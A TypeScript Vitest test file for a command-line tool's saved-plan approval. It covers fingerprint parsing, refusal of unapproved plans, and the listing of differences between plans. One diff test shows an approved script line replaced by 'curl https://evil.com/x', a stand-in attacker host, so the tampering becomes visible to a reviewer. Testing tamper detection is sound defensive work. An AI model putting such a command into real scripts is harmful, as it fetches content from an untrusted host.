/** Tests plans that must have an approved fingerprint. */
import { describe, expect, it } from "vitest";
import { refuseOtherFile, refuseUnapproved } from "../../../automation/saved-plan/approval.js";
import { listStepDifferences } from "../../../automation/saved-plan/published-steps.js";
import type { SavedPlan } from "../../../automation/saved-plan/schema.js";
import { parseApprovedFingerprint } from "../../../cli/options/option-values.js";
import { HIDDEN } from "../../../diff/values.js";
import { fromJson, type JsonValue } from "../../../text/json-value.js";

type Step = SavedPlan["steps"][number];
const [a, b] = ["a", "b"].map((digit) => `sha256:${digit.repeat(64)}`) as [string, string];
const step = (name: string, more: Partial<Step> = {}): Step => ({
  operation: "create",
  type: "Group",
  name,
  before: null,
  after: null,
  changes: [],
  replacedFor: [],
  ...more,
});
const change = (before: JsonValue, after: JsonValue) => [
  { path: "description", pathParts: ["description"], before, after },
];
const SECRET = { $secret: true };
const saved = (steps: Step[]) => ({ fingerprint: a, steps }) as unknown as SavedPlan;
const plan = (steps: Step[], fingerprint = b) => ({
  fingerprint,
  steps: steps.map((one) => ({
    ...one,
    ...{ reasons: [], formerName: undefined, within: undefined },
    changes: one.changes.map(({ path, pathParts, before, after }) => {
      return { path, parts: pathParts, before: fromJson(before), after: fromJson(after) };
    }),
  })) as never,
  shown: new Map(),
  objects: steps.map(({ operation, type, name }) => {
    return { operation, type, name, ...(type === "Variable" ? { after: { value: HIDDEN } } : {}) };
  }),
});

describe("--approved", () => {
  it("takes a whole fingerprint, with or without its kind", () => {
    expect(parseApprovedFingerprint("A".repeat(64))).toBe(a);
    expect(parseApprovedFingerprint(`${a}\n`)).toBe(a);
    for (const text of ["", "sha256:", a.slice(0, -1), `${a}0`, "x".repeat(64)])
      expect(() => parseApprovedFingerprint(text)).toThrow("the whole fingerprint");
  });

  it("accepts only the approved plan", () => {
    expect(() => refuseUnapproved(a, plan([step("groups/QA")], a), undefined)).not.toThrow();
    expect(() => refuseUnapproved(a, plan([step("groups/QA")]), undefined)).toThrow(
      /nothing was changed: sha256:aaa\S+ is approved, and this plan is sha256:bbb[^]*--plan FILE/,
    );
    expect(() => refuseUnapproved(a, plan([]), undefined)).toThrow("applied already");
  });

  it("tells programs by a code that another plan must be approved", () => {
    const other = expect.objectContaining({ code: "other-plan" }) as Error;
    expect(() => refuseUnapproved(a, plan([step("groups/QA")]), undefined)).toThrow(other);
    expect(() => refuseOtherFile({ ...saved([]), fingerprint: "sha256:other" }, a)).toThrow(other);
  });

  it("names the differences object by object if there is a file", () => {
    const error = () =>
      refuseUnapproved(
        a,
        plan([step("groups/New"), step("groups/QA")]),
        saved([step("groups/QA"), step("groups/Old")]),
      );
    expect(error).toThrow(
      /\+ not approved: create Group groups\/New\n\s+- approved, and not in this plan: create Group groups\/Old/,
    );
    expect(error).not.toThrow("--plan FILE");
  });

  it("says what else it can be when nothing that is shown differs", () => {
    const secret = step("variables/T", {
      ...{ operation: "update", type: "Variable", changes: change(SECRET, SECRET) },
    });
    expect(() => refuseUnapproved(a, plan([secret]), saved([secret]))).toThrow(
      /look the same[^]*same passphrase/,
    );
  });

  it("refuses a file with another plan", () => {
    expect(() => refuseOtherFile(saved([]), a)).not.toThrow();
    expect(() => refuseOtherFile(saved([]), b)).toThrow(`its fingerprint is "${a}"`);
  });
});

describe("differences between plans", () => {
  it("show operations and values of both", () => {
    const before = [
      step("groups/A", { operation: "update", changes: change("x", "y") }),
      step("groups/B", { operation: "delete" }),
    ];
    const after = [
      step("groups/A", { operation: "update", changes: change("z", "y") }),
      step("groups/B", { operation: "replace" }),
    ];
    expect(listStepDifferences(before, after)).toEqual([
      "Differences from the approved plan:",
      "  ~ update Group groups/A",
      '      description: approved "x" → "y", now "z" → "y"',
      "  ~ replace Group groups/B",
      "      approved: delete Group groups/B",
    ]);
    expect(listStepDifferences(before, [...before].reverse())).toEqual([]);
  });

  it("show the lines of long texts that differ", () => {
    const text = (host: string) => `set -e\nnpm ci\nnpm test\ncurl https://${host}/x\n`;
    const update = (before: string, after: string) => [
      step("groups/A", { operation: "update", changes: change(text(before), text(after)) }),
    ];
    expect(
      listStepDifferences(update("a.example.com", "b.example.com"), update("a.example.com", "evil.com")),
    ).toEqual([
      "Differences from the approved plan:",
      "  ~ update Group groups/A",
      "      description, after (- approved, + now):",
      "          set -e",
      "          npm ci",
      "          npm test",
      "        - curl https://b.example.com/x",
      "        + curl https://evil.com/x",
    ]);
  });

  it("ignore hashes, which only one of the plans may have", () => {
    expect(listStepDifferences([step("groups/A", { hash: "0" })], [step("groups/A")])).toEqual([]);
  });

  it("ignore keyed fingerprints, and count what is too long to list", () => {
    const secret = (mark: JsonValue) => [
      step("variables/T", { operation: "update", changes: change(SECRET, mark) }),
    ];
    expect(listStepDifferences(secret({ $secret: "0123" }), secret(SECRET))).toEqual([]);
    const many = Array.from({ length: 35 }, (_, index) => step(`groups/${index}\u001b\n`));
    const lines = listStepDifferences([], many);
    expect(lines.at(-1)).toBe("  and 5 more objects");
    expect(lines.join("")).not.toMatch(/\p{Cc}/u);
  });
});
